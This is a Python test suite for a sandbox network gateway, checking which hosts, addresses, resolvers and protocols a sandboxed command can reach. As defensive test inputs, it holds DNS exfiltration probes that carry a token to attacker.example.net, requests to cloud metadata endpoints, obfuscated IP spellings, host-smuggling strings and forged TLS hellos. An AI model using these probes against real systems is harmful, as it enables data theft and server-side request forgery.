#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# session
"""What can be reached: names, addresses, resolvers and protocols (N1 to N12, N14, N16, N24 to N26)."""
import json
import os
import socket
import ssl
import struct
import subprocess

import place  # first: it finds the harness
import harness
import sites
from place import BOTH, case, check, closed, get, https, need_program, need_service, refusal, statuses, turned_away

RAW = {"host": "raw.example.com", "ports": [80, 443]}
CURL = ("curl", "-sS", "-m", "20")


def tcp(host, port, send=("x",), **more):
    return {"do": "tcp", "host": host, "port": port, "send": list(send), "wait": 5, **more}


def plain_get(host, port=80, path="/", **more):
    return {"do": "http", "host": host, "port": port, "send": [get(path, host)], "wait": 5, **more}


def refused_policy(p, text_or_dict, *words):
    """croft says no before anything runs, and names the file."""
    r, receipt = None, None
    try:
        r, receipt = p.croft_run(text_or_dict, "/bin/sh", "-c", "echo it-" + "runs")
    except harness.Fail as e:
        r = str(e)
    said = str(r)
    check("it-runs" not in (r.out if hasattr(r, "out") else said), "the command ran: %s" % said)
    for word in words:
        check(word in said, "no %r in the message: %s" % (word, said))
    return said, receipt


def nobody_reached(p, *labels):
    for label in labels:
        seen = p.world.opened(label) + [e for e in p.world.events(label) if e["event"] == "data"]
        check(not seen, "%s was reached: %s" % (label, seen[:3]))


# ---- what must work ----

@case("P1-https", tiers=BOTH)
def allowed_https(p):
    need_program("curl")
    need_service("nginx")
    r, receipt = p.croft_run({"allow": ["www.example.com"]}, *CURL, "https://www.example.com/hello")
    check(r.rc == 0 and r.out == "hello\n", r)
    net = receipt["network"]
    check(net["gateway"] == "served", net)
    check(net["mode"] == ("transparent" if p.tier == "namespace" else "proxy"), net)
    if p.counted():
        check(net["connections"] >= 1 and net["requests"] >= 1 and net["down_b"] > 0, net)
        mine = [h for h in net["hosts"] if h["host"] == "www.example.com"]
        check(mine and mine[0]["port"] == 443 and mine[0]["requests"] == 1 and mine[0]["mode"] == "http", net)
    check(not p.denied().all, p.denied())
    r = p.plain(*CURL, "https://www.example.com/hello")
    check(r.out == "hello\n", "the control does not reach: %s" % r)


@case("P2-command-line", tiers=BOTH)
def command_line(p):
    """--allow-host does what a policy file does; the port is part of it."""
    need_program("curl")
    extra = p.policy()
    r, _ = p.croft_run(extra, *CURL, "-o", "/dev/null", "-w", "%{http_code}", "https://raw.example.com/",
                       options=["--allow-host", "raw.example.com"])
    check(r.rc == 0 and r.out == "200", r)
    r, _ = p.croft_run(extra, *CURL, "https://raw.example.com/", options=["--allow-host", "raw.example.com:8443"])
    check(r.rc != 0 or "denied by croft" in r.out, "another port was allowed: %s" % r)
    r, _ = p.croft_run(extra, *CURL, "https://raw.example.com/", options=["--allow-host", "www.example.com"])
    check(r.rc != 0 or "denied by croft" in r.out, "another host was allowed: %s" % r)


harness.alone("its neighbour needs the gateway", "P3-not-needed")


@case("P3-not-needed", tiers=BOTH)
def not_needed(p):
    """A command that uses no network starts no gateway."""
    _, receipt = p.croft_run({"allow": ["www.example.com"]}, "true")
    check(receipt["network"]["gateway"] == "not needed", receipt["network"])


@case("P4-ipv6-only")
def ipv6_only(p):
    if not p.world.ipv6:
        raise harness.Skip("no IPv6 here")
    found = p.inside({"allow": ["raw6.example.com"]}, [https("raw6.example.com", get("/six", "raw6.example.com"))])
    check(statuses(found[0]) == [200], found)
    check(p.world.opened("raw")[0]["local"] == sites.RAW6, p.world.opened("raw"))


@case("P5-opaque-tcp", tiers=BOTH)
def opaque_tcp(p):
    """tcp by name and by network: the bytes are the client's."""
    step = tcp("tcp.example.com", 7777, ["over tcp"], want=8)
    found = p.inside({"allow": ["tcp.example.com:7777"]}, [step, tcp("tcp.example.com", 22)])
    check(found[0].get("data") == "over tcp", found)
    check(closed(found[1]), "a port that no rule names: %s" % found)
    literal = tcp(sites.TCP, 7777, ["by address"], want=10)
    found = p.inside({"allow": [{"cidr": sites.TCP + "/32", "ports": [7777], "mode": "tcp"}]}, [literal])
    check(found[0].get("data") == "by address", found)


@case("P6-tls-splice")
def tls_splice(p):
    """mode tls: end to end with the server's own certificate; what is inside stays unseen."""
    rule = {"host": "raw.example.com", "ports": [443], "mode": "tls"}
    step = {"do": "tcp", "host": "raw.example.com", "port": 443, "tls": {"verify": False}, "send": [get("/t")], "want": 20}
    found = p.inside({"allow": [rule]}, [step])
    check("200" in found[0].get("data", ""), found)
    seen = p.world.opened("raw")
    check(seen and seen[0]["sni"] == "raw.example.com", seen)
    net = p.counted()
    check(not net or net["hosts"][0]["mode"] == "tls", net)


@case("P7-intercepted")
def intercepted(p):
    """An inspected connection carries the sandbox's own authority inside, the real one outside."""
    step = {"do": "tcp", "host": "raw.example.com", "port": 443, "tls": {}, "send": [get("/t")], "want": 20}
    found = p.inside({"allow": [RAW]}, [step])
    check("200" in found[0].get("data", ""), found)
    check("croft test authority" not in str(found[0]["issuer"]), found[0]["issuer"])
    check("croft test authority" in str(p.control([step])[0]["issuer"]), "the control sees another authority")


@case("P8-plain-http", tiers=BOTH)
def plain_http(p):
    need_program("curl")
    r, _ = p.croft_run({"allow": ["raw.example.com"]}, *CURL, "http://raw.example.com/plain?x=1")
    check(r.rc == 0 and '"target": "/plain?x=1"' in r.out, r)
    r, _ = p.croft_run({"allow": [{"host": "raw.example.com", "ports": [443]}]}, *CURL, "http://raw.example.com/")
    check(r.rc != 0 or '"error"' in r.out, "port 80 was not allowed: %s" % r)


@case("P9-fixed-address")
def fixed_address(p):
    """resolve: names that only this policy knows; the resolver is not asked."""
    rule = {"allow": [{"host": "db.internal.example.com", "ports": [7777], "mode": "tcp"}],
            "resolve": {"db.internal.example.com": sites.PRIVATE}}
    found = p.inside(rule, [tcp("db.internal.example.com", 7777, ["fixed"], want=5)])
    check(found[0].get("data") == "fixed", found)
    check("db.internal.example.com" not in p.world.queries(), p.world.queries())
    for address in (sites.METADATA[0], "127.0.0.1", sites.HOST4):
        p.world.forget()
        policy = {"allow": [{"host": "db.internal.example.com", "ports": [80, sites.HOST_HTTP], "mode": "tcp"}],
                  "resolve": {"db.internal.example.com": address}}
        try:
            p.inside(policy, [tcp("db.internal.example.com", 80), tcp("db.internal.example.com", sites.HOST_HTTP)])
        except harness.Fail:
            pass  # refused as a policy is as good
        nobody_reached(p, "metadata", "host")


@case("P10-certificates", tiers=BOTH)
def certificates(p):
    """An upstream that cannot prove its name is refused, with the reason."""
    need_service("nginx")
    hosts = ["wrongname.example.com", "expired.example.com", "selfsigned.example.com", "unknownca.example.com"]
    found = p.inside({"allow": hosts + ["www.example.com"]},
                     [https(h, get("/", h)) for h in hosts] + [https("www.example.com", get("/hello", "www.example.com"))])
    for host, f in zip(hosts, found):
        check(statuses(f) == [502], "%s: %s" % (host, f))
        check(refusal(f)["host"] == host, f)
        check("reached" not in f["responses"][0]["body"], f)
        check(p.denied().about(host=host), "%s is not in the receipt: %s" % (host, p.denied()))
    check(statuses(found[-1]) == [200], found[-1])
    insecure = [{"do": "http", "host": h, "port": 443, "tls": {"verify": False}, "send": [get("/", h)]} for h in hosts]
    check(all(statuses(f) == [200] for f in p.control(insecure)), "the control does not reach")


@case("P11-explain-refusal", tiers=BOTH)
def explain_refusal(p):
    """The 403 says who refused, why and what would allow it; the receipt has the same."""
    rule = {"host": "raw.example.com", "ports": [443], "methods": ["GET"], "paths": ["/ok/**"], "reason": "only /ok is for you"}
    found = p.inside({"allow": [rule]}, [https("raw.example.com", get("/secret?q=hush")),
                                        https("raw.example.com", get("/ok/1", method="DELETE")),
                                        https("raw.example.com", get("/ok/1"))])
    check([statuses(f) for f in found] == [[403], [403], [200]], found)
    said = refusal(found[0])
    for key in ("error", "host", "method", "path", "rule", "reason", "next"):
        check(key in said, "no %s in %s" % (key, said))
    check((said["host"], said["method"], said["path"]) == ("raw.example.com", "GET", "/secret"), said)
    check("hush" not in json.dumps(said), "the query is repeated: %s" % said)
    told = p.denied().about(host="raw.example.com", path="/secret", method="GET", port=443)
    check(len(told) == 1 and told[0]["count"] == 1 and told[0]["reason"], p.denied())
    check(p.denied().about(method="DELETE", path="/ok/1"), p.denied())
    check([e["target"] for e in p.world.requests("raw")] == ["/ok/1"], p.world.requests("raw"))


# ---- addresses ----

@case("N1-literals")
def literals(p):
    steps = [tcp(sites.EVIL, 80, [get()]), tcp(sites.EVIL, 443), tcp(sites.EVIL, 4444), tcp(sites.EVIL, 1),
             tcp(sites.RAW, 80, [get()]), tcp(sites.RAW, 443)]
    if p.world.ipv6:
        steps += [tcp(sites.EVIL6, 80, [get()]), tcp(sites.EVIL6, 4444), tcp("::ffff:" + sites.EVIL, 80, [get()], family="AF_INET6")]
    found = p.inside({"allow": [RAW]}, steps)
    check(all(map(turned_away, found)), found)
    nobody_reached(p, "evil", "raw")
    told = p.denied().about(host=sites.EVIL, port=4444)
    check(told and told[0]["count"] >= 1, "not told: %s" % p.denied())
    check(not p.world.queries(), "something was resolved: %s" % p.world.queries())
    check(not any(map(closed, p.control(steps[:1] + steps[2:5]))), "the control does not reach")


@case("N1-literals-proxy", tiers=("process",))
def literals_proxy(p):
    """Without a namespace: neither directly nor by asking the proxy."""
    steps = [tcp(sites.EVIL, 80, direct=True), tcp(sites.RAW, 443, direct=True), tcp(sites.EVIL, 4444),
             tcp("evil.example.net", 443), tcp("127.0.0.1", sites.HOST_HTTP), tcp("127.0.0.1", sites.HOST_HTTP, direct=True),
             tcp(sites.METADATA[0], 80), tcp(sites.METADATA[0], 80, direct=True), tcp("localhost", sites.HOST_HTTP)]
    found = p.inside({"allow": [RAW]}, steps)
    check(all(map(closed, found)), found)
    nobody_reached(p, "evil", "host", "metadata")
    check(not any(map(closed, p.control([steps[0], steps[2]]))), "the control does not reach")


SPELLINGS = ("0xcb.0x0.0x71.0x42", "3405803842", "0313.0.0161.0102", "203.0.28994", "203.28994", "0xcb007142",
             "EVIL.example.net", "evil.example.net.", "[%s]" % sites.EVIL, "evil.example.net..", ".evil.example.net")


@case("N2-spellings", tiers=BOTH)
def spellings(p):
    need_program("curl")
    script = "for h in %s; do curl -s -m 5 http://$h/N2; curl -s -k -m 5 https://$h/N2; done; true" \
        % " ".join("'%s'" % s for s in SPELLINGS)
    p.croft_run({"allow": [RAW]}, "/bin/sh", "-c", script)
    nobody_reached(p, "evil")
    check(not [q for q in p.world.queries() if "evil" in q], p.world.queries())
    p.plain("/bin/sh", "-c", script)
    check(len(p.world.requests("evil")) > 4, "the control does not reach")
    # The same name in another case and with the root's dot is the same name.
    p.world.forget()
    r, _ = p.croft_run({"allow": [RAW]}, "/bin/sh", "-c", "curl -s -m 9 https://RAW.Example.com/a https://raw.example.com./b")
    check([e["target"] for e in p.world.requests("raw")][:1] == ["/a"], "%s %s" % (r, p.world.requests("raw")))


@case("N2-own-loopback")
def own_loopback(p):
    """127.1, 0.0.0.0, [::] and friends are the sandbox's own; the host's service is not there."""
    steps = [plain_get(h, sites.HOST_HTTP) for h in ("127.0.0.1", "127.1", "0.0.0.0", "::1", "::", "2130706433", "0x7f.1",
                                                      "017700000001", "127.255.255.254", "localhost", "::ffff:127.0.0.1")]
    found = p.inside({"allow": [RAW]}, steps)
    check(all(map(closed, found)), found)
    nobody_reached(p, "host")
    check(sum(not closed(f) for f in p.control(steps)) >= 6, "the control does not reach")
    listen = ("import socket,threading\ns=socket.create_server(('127.0.0.1',8099))\n"
              "def serve():\n while True: s.accept()[0].sendall(b'mine')\n"
              "threading.Thread(target=serve,daemon=True).start()\n"
              "print(socket.create_connection(('127.0.0.1',8099)).recv(4).decode())")
    r, _ = p.croft_run({"allow": [RAW]}, place.PYTHON, "-c", listen)
    check(r.out == "mine\n", "loopback inside does not work: %s" % r)


WRAPPED = ("::ffff:" + sites.METADATA[0], "::" + sites.METADATA[0], *sites.METADATA6, *sites.PRIVATE_WRAPPED,
           "::ffff:" + sites.PRIVATE, "::ffff:0:" + sites.METADATA[0], "2002:a9fe:a9fe::1", "fe80::1", "fd00:ec2::254")


@case("N3-wrapped")
def wrapped(p):
    """Metadata and private hosts in IPv6 clothes, also under the widest rule somebody might write."""
    if not p.world.ipv6:
        raise harness.Skip("no IPv6 here")
    steps = [tcp(a, 80, [get("/N3", "m")]) for a in WRAPPED]
    policies = [{"allow": [RAW]}, {"allow": [{"cidr": "::/0", "ports": [80], "mode": "tcp"}]},
                {"allow": [{"cidr": "64:ff9b::/96", "ports": [80], "mode": "tcp"}]},
                {"allow": [{"cidr": "0.0.0.0/0", "ports": [80], "mode": "tcp"}]}]
    for policy in policies:
        p.world.forget()
        try:
            p.inside(policy, steps)
        except harness.Fail:
            check(p.last is None or "probe" not in str(p.last[0].err), "broke: %s" % (p.last,))
        nobody_reached(p, "metadata", "private")
    check(sum(not closed(f) for f in p.control(steps)) >= 6, "the control does not reach")


@case("N4-zones")
def zones(p):
    names = ["fe80::1%lo", "::ffff:%s%%lo" % sites.EVIL, "fe80::1%25lo", "::1%lo", "::ffff:1.2.3.4%raw.example.com",
             sites.EVIL6 + "%lo"]
    steps = [tcp(n, 80, [get()], wait=2) for n in names]
    steps.append(https("raw.example.com", get("/N4", "[fe80::1%25raw.example.com]")))
    found = p.inside({"allow": [RAW]}, steps)
    check(all(map(closed, found[:-1])), found)
    check(statuses(found[-1]) != [200], found[-1])
    nobody_reached(p, "evil")
    check(not p.world.requests("raw"), p.world.requests("raw"))
    for n in names[:2]:
        refused_policy(p, {"allow": [n]})
    check(not closed(p.control([tcp(sites.EVIL6 if p.world.ipv6 else sites.EVIL, 80, [get()])])[0]), "the control does not reach")


@case("N5-host")
def host_services(p):
    """The host's loopback, its addresses, its router: by literal, and by names that point there."""
    hosts = [sites.HOST4, sites.HOST_LAN, "198.18.0.1", "198.18.0.2", "10.0.2.2", "172.17.0.1"]
    hosts += [sites.HOST6] if p.world.ipv6 else []
    names = ["to-host.example.com", "to-lan.example.com", "to-loopback.example.com", "to-loopback6.example.com",
             "to-zero.example.com", "to-mapped-loopback.example.com"]
    rules = [{"host": n, "ports": [sites.HOST_HTTP], "mode": m, "private": True, "plaintext": True} for m in ("http",) for n in names]
    steps = [plain_get(h, sites.HOST_HTTP) for h in hosts + names]
    found = p.inside({"allow": rules}, steps)
    check(all(closed(f) or statuses(f)[0] in (403, 502) for f in found), found)
    nobody_reached(p, "host")
    found = p.inside({"allow": [{"host": n, "ports": [sites.HOST_HTTP], "mode": "tcp", "private": True} for n in names]},
                     [tcp(n, sites.HOST_HTTP, [get("/N5", n)]) for n in names])
    check(all(map(closed, found)), found)
    nobody_reached(p, "host")
    check(sum(not closed(f) for f in p.control(steps)) >= 4, "the control does not reach")


@case("N6-metadata", tiers=BOTH)
def metadata(p):
    addresses = list(sites.METADATA) + (["fd00:ec2::254"] if p.world.ipv6 else [])
    steps = [tcp(a, 80, [get("/latest/meta-data/", a)]) for a in addresses]
    found = p.inside({"allow": [RAW]}, steps)
    check(all(map(closed, found)), found)
    names = ["to-meta.example.com", "to-alibaba.example.com", "to-nat64-meta.example.com"]
    rules = [{"host": n, "ports": [80, 443], "private": True} for n in names]
    found = p.inside({"allow": rules}, [plain_get(n) for n in names] + [https(n, get("/", n)) for n in names])
    check(all(closed(f) or statuses(f)[0] in (403, 502) for f in found), found)
    nobody_reached(p, "metadata")
    for a in addresses + ["metadata.google.internal", "localhost"]:
        entry = {"cidr": a + ("/128" if ":" in a else "/32")} if a[0].isdigit() or ":" in a else {"host": a}
        refused_policy(p, {"allow": [{**entry, "ports": [80], "private": True}]})
    nobody_reached(p, "metadata")
    check(not any(map(closed, p.control(steps[:4]))), "the control does not reach")


@case("N7-ports")
def ports(p):
    """65536 more is not the same port."""
    for port in ("65616", "0", "-1", "80x", "443.0", "99999999999999999999"):
        refused_policy(p, {"allow": ["raw.example.com:" + port]})
    steps = [https("raw.example.com", get("/N7", "raw.example.com:%s" % n)) for n in ("65979", "443443", "-1", "0x1bb", "8443")]
    found = p.inside({"allow": [RAW]}, steps)
    check(all(statuses(f) != [200] for f in found), found)
    check(not p.world.requests("raw"), p.world.requests("raw"))
    found = p.inside({"allow": [RAW]}, [https("raw.example.com", get("/N7", "raw.example.com:443"))])
    check(statuses(found[0]) == [200], found)


# ---- names ----

def secret_labels(p):
    return ["%s.attacker.example.net" % p.token, "%s.%s.attacker.example.net" % (p.token[:12], p.token[12:]),
            "%s.raw.example.com" % p.token, "%s.example.com" % p.token]


@case("N8-exfiltration-by-name", tiers=BOTH)
def exfiltration(p):
    """Labels of a name that no rule covers go nowhere."""
    steps = [{"do": "lookup", "name": n} for n in secret_labels(p)]
    if p.tier == "namespace":
        steps += [{"do": "dns", "name": n, "type": t} for n in secret_labels(p)
                  for t in ("A", "AAAA", "TXT", "ANY", "NULL", "MX", "HTTPS", "SRV")]
    found = p.inside({"allow": [RAW]}, steps)
    for f in found:  # nothing, or an address of the sandbox's own
        given = f.get("addresses", [a[2] for a in f.get("answers", [])])
        check(all(a.startswith(("198.18.", "fd63:726f:6674:")) for a in given), f)
    check(not [q for q in p.world.queries() if p.token[:12] in q], "asked: %s" % p.world.queries())
    p.control(steps[:2])
    check([q for q in p.world.queries() if p.token in q], "the control does not ask")


@case("N8-allowed-name")
def dns_of_allowed(p):
    """An allowed name has one address of the sandbox's own; other types are empty; nothing is asked before a dial."""
    steps = [{"do": "dns", "name": "raw.example.com", "type": t} for t in ("A", "AAAA", "TXT", "MX", "HTTPS", "ANY")]
    steps += [{"do": "dns", "name": "RaW.eXample.com", "type": "A"}, {"do": "lookup", "name": "raw.example.com"}]
    found = p.inside({"allow": [RAW]}, steps)
    check(found[0]["rcode"] == 0 and found[0]["answers"][0][2].startswith("198.1"), found[0])
    check(found[1]["rcode"] == 0 and found[1]["answers"][0][2].startswith("fd63:726f:6674:"), found[1])
    check(all(f["rcode"] == 0 and not f["answers"] for f in found[2:5]), found[2:5])
    check(found[6]["answers"] == found[0]["answers"], found)
    check(not p.world.queries(), "asked without need: %s" % p.world.queries())
    for f in p.inside({"allow": [RAW]}, [tcp("198.18.77.77", 443), tcp("198.19.255.254", 80)]):
        check(closed(f), "a synthetic address that nobody asked for: %s" % f)


@case("N8-malformed")
def malformed_dns(p):
    """Bytes that are no question: no answer or an error, and the next question is answered."""
    good = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0)
    bad = [b"", b"\0" * 11, good, good + b"\x3f" + b"a" * 20, good + b"\xc0\x0c\0\1\0\1", good + b"\x03www\0\0\1\0\2",
           struct.pack(">HHHHHH", 1, 0x100, 40000, 0, 0, 0) + b"\0\0\1\0\1", struct.pack(">HHHHHH", 1, 0x8100, 1, 0, 0, 0),
           good + b"".join(b"\x3f" + b"a" * 63 for _ in range(5)) + b"\0\0\1\0\1",
           good + b"\x10evil.example.net\x0fraw\0example.com..\0\0\1\0\1", os.urandom(512), b"\xff" * 4000]
    steps = [{"do": "dns", "raw": b.hex(), "wait": 0.2} for b in bad if b] + [{"do": "dns", "name": "raw.example.com"}]
    found = p.inside({"allow": [RAW]}, steps)
    check(found[-1].get("rcode") == 0, found[-1])
    check(all("error" in f or not f["answers"] for f in found[:-1]), found)
    check(not p.world.queries(), p.world.queries())


@case("N9-other-resolvers")
def other_resolvers(p):
    name = p.token + ".attacker.example.net"
    steps = [{"do": "dns", "server": s, "name": name, "wait": 2} for s in (sites.DNS, sites.EVIL)]
    steps += [{"do": "dns", "server": s, "name": name, "tcp": True, "wait": 2} for s in (sites.DNS, sites.EVIL)]
    steps += [tcp(sites.DNS, 853), tcp(sites.EVIL, 853), {"do": "udp", "host": sites.EVIL, "port": 853, "data": p.token},
              {"do": "udp", "host": "224.0.0.251", "port": 5353, "data": p.token, "connect": False, "wait": 0.3},
              {"do": "udp", "host": "224.0.0.252", "port": 5355, "data": p.token, "connect": False, "wait": 0.3},
              {"do": "udp", "host": sites.EVIL, "port": 5353, "data": p.token},
              https("evil.example.net", get("/dns-query?dns=" + p.token, "evil.example.net")),
              tcp(sites.EVIL, 443)]
    if p.world.ipv6:
        steps.append({"do": "dns", "server": sites.EVIL6, "name": name, "wait": 2})
    found = p.inside({"allow": [RAW]}, steps)
    check(all(turned_away(f) or all(a[2].startswith(("198.18.", "fd63:726f:6674:")) for a in f["answers"]) for f in found), found)
    nobody_reached(p, "evil", "dot")
    check(not [q for q in p.world.queries() if p.token in q], p.world.queries())
    # An asked resolver's own address answers, so that clients with a fixed one work for allowed names.
    found = p.inside({"allow": [RAW]}, [{"do": "dns", "server": "8.8.8.8", "name": "raw.example.com"}])
    check(found[0].get("rcode") == 0 and found[0]["answers"], found)
    p.world.forget()
    p.control(steps[:4])
    check([q for q in p.world.queries() if p.token in q] and p.world.events("evil"), "the control does not ask")


@case("N10-rebinding", tiers=BOTH)
def rebinding(p):
    """A public name that resolves to something else is not dialled there; `private` opens private ranges only."""
    names = [n for n in sites.REBINDING if p.world.ipv6 or not any(":" in a for a in sites.NAMES[n])]
    steps = [plain_get(n) for n in names] + [https(n, get("/", n)) for n in names]
    found = p.inside({"allow": names}, steps)
    for step, f in zip(steps, found):
        good = closed(f) or statuses(f)[0] in (403, 502) or step["host"] == "to-mixed.example.com"
        check(good, "%s: %s" % (step["host"], f))
    nobody_reached(p, "private", "metadata", "host")
    check(p.denied().about(host="to-private.example.com"), "not told: %s" % p.denied())
    p.world.forget()
    rules = [{"host": n, "ports": [80], "private": True} for n in names]
    found = p.inside({"allow": rules}, [plain_get(n) for n in names])
    nobody_reached(p, "metadata", "host")
    at = names.index("to-private.example.com")
    check(statuses(found[at]) == [200] and p.world.opened("private"), "`private` does not open: %s" % found[at])


@case("N10-rebinding-later")
def rebinding_later(p):
    """Vetted on every dial: the name was fine a moment ago."""
    p.world.rebind(sites.RAW)
    ask = plain_get(sites.FLIP, path="/close")  # the server closes, so that the next request has to be dialled
    steps = [ask, {"do": "wait"}, ask, {"do": "wait"}, ask]
    child = p.start({"allow": [sites.FLIP]}, *p.steps(steps), stdin=subprocess.PIPE)
    try:
        first = json.loads(child.stdout.readline())
        check(statuses(first) == [200], first)
        for address in (sites.PRIVATE, sites.METADATA[0]):
            p.world.rebind(address)
            child.stdin.write(b"\n")
            child.stdin.flush()
            child.stdout.readline()
            later = json.loads(child.stdout.readline())
            check(statuses(later) in ([403], [502]) or closed(later), "%s: %s" % (address, later))
        nobody_reached(p, "private", "metadata")
    finally:
        child.stdin.close()
        p.world.rebind(sites.RAW)
        child.wait(harness.WAIT_S)
        child.stdout.close()
        child.stderr.close()


ODD_HOSTS = ("raw.example.com\\u0000.evil.example.net", "user@raw.example.com", "raw.example.com%00", "raw..example.com",
             "ex\u00e4mple.com", "\uff52aw.example.com", "-raw.example.com", "raw.example.com/", "*", "**", "*.com", "*.co.uk",
             "a*.example.com", "raw.example.com#", "", " raw.example.com", "raw.example.com ", "a" * 64 + ".example.com",
             "127.1", "0x7f.1", "2130706433", "*.github.io", "raw.*.com")


@case("N11-host-text")
def host_text(p):
    for text in ODD_HOSTS:
        path = p.policy()
        p.write(path, 'version: 1\nnetwork: {"allow": [{"host": "%s", "ports": [443]}]}\n' % text)
        refused_policy(p, path)
    hosts = ["raw.example.com@evil.example.net", "raw.example.com\0.evil.example.net", "raw.example.com%00", "evil.example.net",
             "raw.example.com, evil.example.net", "raw.example.com evil.example.net", "", "raw.example.com\x01", "\xffraw.example.com",
             "raw.example.com/evil", "r%61w.example.com", "raw.example.com#", "raw.example.com:443:443", "[raw.example.com]"]
    found = p.inside({"allow": [RAW]}, [https("raw.example.com", get("/N11", h)) for h in hosts])
    check(all(statuses(f) != [200] for f in found), [(h, statuses(f)) for h, f in zip(hosts, found)])
    check(not p.world.requests("raw"), p.world.requests("raw"))
    nobody_reached(p, "evil")
    found = p.inside({"allow": [RAW]}, [https("raw.example.com", get("/N11", "raw.example.com"))])
    check(statuses(found[0]) == [200], found)


# ---- the first bytes ----

def client_hello(name):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    if name is None:
        context.check_hostname = False
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def with_extension(hello, number, data):
    """The same ClientHello with one more extension."""
    body = hello[9:]  # after the record's and the message's heads
    at = 34
    at += 1 + body[at]
    at += 2 + struct.unpack(">H", body[at:at + 2])[0]
    at += 1 + body[at]
    size = struct.unpack(">H", body[at:at + 2])[0]
    extensions = body[at + 2:at + 2 + size] + struct.pack(">HH", number, len(data)) + data
    body = body[:at] + struct.pack(">H", len(extensions)) + extensions
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


def in_records(hello, size):
    body = hello[5:]
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(body[i:i + size])) + body[i:i + size]
                    for i in range(0, len(body), size))


ECH = bytes([0]) + struct.pack(">HHBHH", 1, 1, 7, 32, 0) + b"\0" * 40


@case("N12-server-name")
def server_name(p):
    hello = client_hello("raw.example.com")

    def first(data, **more):
        return {"do": "tcp", "host": "raw.example.com", "port": 443, "hello": data.hex(), "want": 1, "wait": 5, **more}

    padded = with_extension(hello, 21, b"\0" * 15000)
    wrong = [first(client_hello("evil.example.net")), first(client_hello(None)), first(in_records(client_hello("evil.example.net"), 20)), first(hello[:5] + b"\x0b" + hello[6:]),
             first(b"\x16\x03\x01\xff\xff" + b"\x01\x00\xff\xfb" + b"\0" * 65530), first(b"\x80\x2e\x01\x03\x01" + b"\0" * 40)]
    right = [first(hello), first(in_records(hello, 30))]
    # Where TLS ends at the gateway, an encrypted name hides nothing: clients send such an extension for show.
    for mode in ("tls", "http"):
        p.world.forget()
        found = p.inside({"allow": [{"host": "raw.example.com", "ports": [443], "mode": mode}]}, wrong)
        # A handshake that is refused may be told so by an alert; it is never taken further.
        check(all(closed(f) or f.get("data", "")[:1] == "\x15" for f in found), "%s: %s" % (mode, found))
        check(not p.world.opened("raw"), "%s: %s" % (mode, p.world.opened("raw")))
        found = p.inside({"allow": [{"host": "raw.example.com", "ports": [443], "mode": mode}]}, right)
        check(all(f.get("data", "")[:1] == "\x16" for f in found), "%s: %s" % (mode, found))
    found = p.inside({"allow": [{"host": "raw.example.com", "ports": [443], "mode": "tls"}]}, [first(padded)])
    check(closed(found[0]) or found[0]["data"][:1] in "\x16\x15", found)
    control = p.control([first(client_hello("evil.example.net")), first(client_hello(None))])
    check(all(f["data"][:1] == "\x16" for f in control), "the control is refused")


@case("N12-encrypted-client-hello")
def encrypted_client_hello(p):
    """What every browser sends as camouflage passes in mode tls, and is written down; not where a rule or the threat says no,
    not in its old forms, and the name outside must still be the one that was judged."""
    def first(name, number):
        data = with_extension(client_hello(name), number, ECH)
        return {"do": "tcp", "host": "raw.example.com", "port": 443, "hello": data.hex(), "want": 1, "wait": 5}

    def rule(**more):
        return {"allow": [{"host": "raw.example.com", "ports": [443], "mode": "tls", **more}]}

    steps = [first("raw.example.com", 0xfe0d), first("evil.example.net", 0xfe0d), first("raw.example.com", 0xfe0a), first("raw.example.com", 0xffce)]
    for policy, options, passes in ((rule(), [], True), (rule(ech="allow"), [], True), (rule(ech="refuse"), [], False),
                                    (rule(), ["--set", "threat=hostile"], False), (rule(ech="allow"), ["--set", "threat=hostile"], True)):
        p.world.forget()
        found = p.inside(policy, steps, options=options)
        check((found[0].get("data", "")[:1] == "\x16") == passes, "%s: %s" % (policy, found[0]))
        check(all(map(closed, found[1:])), found[1:])
        check(bool(p.denied().about(method="ECH")) and bool(p.denied().about(method="SNI")) == passes, p.denied())
    check(p.control(steps[:1])[0]["data"][:1] == "\x16", "the control is refused")


@case("N14-other-protocols")
def other_protocols(p):
    """SSH, SMTP, raw bytes on 443 of a host whose rule says TLS or HTTP."""
    steps = [tcp("tcp.example.com", 443, ["SSH-2.0-probe\r\n"], want=30), tcp("tcp.example.com", 443, ["\0\1\2\3" * 64], want=30),
             tcp("tcp.example.com", 443, ["EHLO x\r\n"], want=30), tcp("tcp.example.com", 443, ["CONNECT x:1 HTTP/1.1\r\n\r\n"], want=30)]
    for mode in ("tls", "http"):
        found = p.inside({"allow": [{"host": "tcp.example.com", "ports": [443], "mode": mode}]}, steps)
        check(all("SSH-2.0-OpenSSH" not in f.get("data", "") for f in found), "%s: %s" % (mode, found))
        check(not [b for b in p.world.received("tcp") if b], "%s: %s" % (mode, p.world.received("tcp")))
    found = p.inside({"allow": [{"host": "tcp.example.com", "ports": [443], "mode": "tcp"}]}, steps[:1])
    check("SSH-2.0-OpenSSH" in found[0].get("data", ""), "the control does not reach: %s" % found)


@case("N16-other-transports")
def other_transports(p):
    steps = [{"do": "udp", "host": sites.EVIL, "port": n, "data": p.token, "wait": 0.5} for n in (443, 4444)]
    steps += [{"do": "udp", "host": "raw.example.com", "port": 443, "data": p.token, "wait": 0.5},
              {"do": "ping", "host": sites.EVIL}, {"do": "ping", "host": sites.EVIL, "type": "SOCK_RAW"},
              {"do": "socket", "args": ["AF_INET", "SOCK_STREAM", 132]}, {"do": "socket", "args": ["AF_INET", "SOCK_RAW", 255]},
              {"do": "socket", "args": ["AF_INET", "SOCK_SEQPACKET", 132]}, {"do": "socket", "args": ["AF_PACKET", "SOCK_RAW", 3]},
              {"do": "socket", "args": ["AF_INET", "SOCK_DCCP" if hasattr(socket, "SOCK_DCCP") else 6, 33]}]
    found = p.inside({"allow": [RAW]}, steps)
    check(all("error" in f or (f.get("from") == sites.EVIL) for f in found), found)
    # The sandbox's own kernel may answer an echo request, since every address is local there; nothing leaves.
    check(not p.world.events("evil"), p.world.events("evil"))
    check("error" in found[4] and "error" in found[6] and "error" in found[8], "raw sockets: %s" % found)
    check("datagrams_refused" in p.network(), p.network())
    check(p.control(steps[:1])[0].get("data") == p.token, "the control does not reach")


# ---- matching ----

@case("N24-patterns")
def patterns(p):
